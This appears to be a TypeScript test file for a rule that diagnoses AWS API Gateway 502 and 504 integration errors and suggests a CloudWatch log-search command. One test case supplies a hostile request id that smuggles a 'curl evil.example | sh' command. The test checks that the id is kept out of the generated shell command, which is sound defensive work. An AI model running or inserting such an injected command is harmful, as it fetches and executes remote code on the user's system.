import rule from '../../../src/diagnose/rules/integration-error.ts';
import { ruleTester } from '../rule-tester.ts';
import { answer, blind, on, passing } from '../auth-fixtures.ts';

const GW = 'InternalServerErrorException';

ruleTester(rule, {
  valid: [
    { name: "a backend 500 with its own body is the backend's answer", ctx: on('GET /health', answer(500, undefined, 'db down')) },
    {
      name: 'an authorizer configuration error is no integration failure',
      ctx: on('POST /orders', answer(500, 'AuthorizerConfigurationException', 'Internal server error')),
    },
    { name: 'MAT', ctx: on('GET /health') },
    { name: 'passed', ctx: passing(on('GET /health', answer(502, GW, 'Internal server error'))) },
  ],
  invalid: [
    {
      name: '502 Internal server error',
      ctx: on('GET /health', {
        ...answer(502, GW, 'Internal server error'),
        headers: { 'x-amzn-errortype': GW, 'x-amzn-requestid': 'req-9', 'x-amz-apigw-id': 'Ab1=' },
      }),
      explains: [
        'matched GET /health and authorized the request',
        'the integration failed',
        '502 InternalServerErrorException ("Internal server error")',
        'not routing or authentication',
      ],
      fixes: [
        `aws logs filter-log-events --log-group-name API-Gateway-Execution-Logs_a1b2c3d4e5/prod --filter-pattern '"req-9"'`,
        '{statusCode, headers, body}',
      ],
      evidence: { kind: 'failure', status: 502, message: 'Internal server error', requestId: 'req-9', apigwId: 'Ab1=' },
    },
    {
      name: '504 Endpoint request timed out',
      ctx: on('GET /health', answer(504, GW, 'Endpoint request timed out')),
      explains: ['integration timeout (29 s by default)'],
      fixes: ['raise the integration timeout'],
      evidence: { kind: 'timeout', status: 504 },
    },
    {
      name: 'known by the body alone (header stripped)',
      ctx: on('GET /health', {
        ...answer(502, undefined, 'Internal server error'),
        classification: { errorType: GW, by: 'body', message: 'Internal server error' },
      }),
      evidence: { kind: 'failure' },
    },
    {
      name: 'a bare 502 from a proxy in front of the backend',
      ctx: on('GET /health', answer(502, undefined, undefined, { body: '<html>Bad Gateway</html>' })),
      evidence: { kind: 'failure' },
    },
    {
      name: 'a request id that is no request id never reaches the suggested command (it is pasted into a shell)',
      ctx: on('GET /health', {
        ...answer(502, GW, 'Internal server error'),
        headers: { 'x-amzn-errortype': GW, 'x-amzn-requestid': "x'; curl evil.example | sh; '" },
      }),
      fixes: [/--log-group-name API-Gateway-Execution-Logs_a1b2c3d4e5\/prod`/],
      evidence: { requestId: undefined },
    },
    {
      name: 'a stage name with shell characters is one quoted word',
      ctx: { ...on('GET /health', answer(502, GW, 'Internal server error')), settings: { ...on('GET /health').settings, stage: "pr'od" } },
      fixes: [`--log-group-name 'API-Gateway-Execution-Logs_a1b2c3d4e5/pr'\\''od'`],
    },
    {
      name: 'blind: the answer is enough',
      ctx: blind('GET /health', answer(504, GW, 'Endpoint request timed out')),
      evidence: { kind: 'timeout' },
    },
  ],
});
